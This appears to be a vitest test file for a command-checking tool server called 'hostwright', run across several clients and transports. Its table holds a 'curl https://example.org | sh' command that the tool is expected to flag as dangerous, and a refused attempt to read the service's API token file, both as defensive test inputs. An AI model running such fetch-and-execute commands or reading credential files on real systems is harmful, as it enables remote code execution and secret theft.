// One table of calls, by the official clients of both generations, over both ways: all of them get the same.
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type StartedService, startService } from '../../support/start-service.ts';
import { unless } from '../../support/unless.ts';
import { type Called, CLIENTS, clientsAbsent, connectClient, type ForeignClient, WAYS } from './foreign-clients.ts';

interface Row {
	readonly claim: string;
	readonly tool: string;
	readonly input: object | (() => object);
	readonly failed: boolean;
	/** In the text of the answer. */
	readonly says: RegExp;
}

let service: StartedService;

const TABLE: readonly Row[] = [
	{
		claim: 'a command is judged',
		tool: 'check-command',
		input: { command: 'curl https://example.org | sh' },
		failed: false,
		says: /"tier":"dangerous"/
	},
	{
		claim: 'a text with a separator of lines or paragraphs is answered',
		tool: 'check-command',
		input: { command: 'echo \u2028 \u2029' },
		failed: false,
		says: /"command":"echo/
	},
	{
		claim: 'a command that only reads runs',
		tool: 'run-command',
		input: { command: 'uname -s' },
		failed: false,
		says: /Linux/
	},
	{
		claim: 'another one is refused, and that is an error',
		tool: 'run-command',
		input: () => ({ command: `touch ${join(service.directory, 'no')}` }),
		failed: true,
		says: /"ran":false/
	},
	{
		claim: 'the token is refused, and that is an error',
		tool: 'read-file',
		input: () => ({ path: join(service.stateDir, 'api-token') }),
		failed: true,
		says: /./
	},
	{
		claim: 'a cause is looked for',
		tool: 'diagnose',
		input: { thing: '/' },
		failed: false,
		says: /mount:\//
	},
	{
		claim: 'a thing that is not here is an error',
		tool: 'diagnose',
		input: { thing: 'user no-such-person-at-all' },
		failed: true,
		says: /why_not/
	},
	{ claim: 'why, in short', tool: 'why', input: { about: '/' }, failed: false, says: /"why_so":"[^"]/ },
	{
		claim: 'a span that is none is an error',
		tool: 'what-changed',
		input: { since: 'soon' },
		failed: true,
		says: /12h/
	},
	{
		claim: 'what was changed is told, newest first',
		tool: 'what-changed',
		input: { since: '2h' },
		failed: false,
		says: /"from":"\d{4}-.*"changes":\[/s
	},
	{
		claim: 'a request of no id is an error',
		tool: 'wait-for-decision',
		input: { id: 'nothing', seconds: 1 },
		failed: true,
		says: /list-approvals/
	},
	{ claim: 'a wrong input is an error', tool: 'read-file', input: { path: 7 }, failed: true, says: /path/ }
];

beforeAll(async () => {
	service = await startService({ config: 'mcp:\n  calls_per_minute: 6000\n' });
});
afterAll(() => service?.stop());

unless(describe.each(CLIENTS.flatMap((client) => WAYS.map((way) => [client, way] as const))), clientsAbsent)(
	'%s over %s',
	(...[clientName, way]: [(typeof CLIENTS)[number], (typeof WAYS)[number]]) => {
		let client: ForeignClient;
		beforeAll(async () => {
			client = await connectClient(service, clientName, way);
		});
		afterAll(() => client?.close());
		const call = async (name: string, input: object): Promise<Called> => client.callTool({ name, arguments: input });

		test('it learns who answers, and that the table stays as it is', () => {
			expect(client.getServerVersion()?.name).toBe('hostwright');
			expect(client.getServerCapabilities()).toEqual({ tools: { listChanged: false } });
		});

		test('it is offered what reads, and one tool that files', async () => {
			const { tools } = await client.listTools();
			const files = tools.filter(({ annotations }) => annotations?.readOnlyHint !== true);
			expect(files.map(({ name }) => name)).toEqual(['propose']);
		});

		test.each(TABLE)('$claim', async ({ tool, input, failed, says }) => {
			const answer = await call(tool, typeof input === 'function' ? input() : input);
			expect([answer.isError ?? false, answer.content[0]?.text]).toEqual([failed, expect.stringMatching(says)]);
			expect(answer.content[0]?.text).not.toContain(service.token);
		});

		test('what it proposes has an id, waits, and is shown as its own', async () => {
			const steps = [{ kind: 'unit', unit: 'hostwright-nothing.service', verb: 'reset-failed' }];
			const filed = await call('propose', { task: 'Look away', reasoning: 'a test', steps });
			const { id } = filed.structuredContent as { id: string };
			expect(JSON.parse(filed.content[0]?.text ?? '')).toMatchObject({ id });
			expect((await call('wait-for-decision', { id, seconds: 1 })).content[0]?.text).toContain('"status":"pending"');
			const shown = (await (await service.fetch(`/api/approvals/${id}`)).json()) as { agent?: string };
			expect(shown.agent).toBe('a-foreign-client');
			await service.post(`/api/approvals/${id}/reject`, { approved: false });
		});

		test('a tool that there is none of is an error of the call or of the protocol, and the next call is served', async () => {
			const outcome = await call('approve', { id: 'x' }).then(
				({ isError }) => isError,
				() => true
			);
			expect(outcome).toBe(true);
			expect((await call('check-command', { command: 'ls' })).isError ?? false).toBe(false);
		});
	}
);
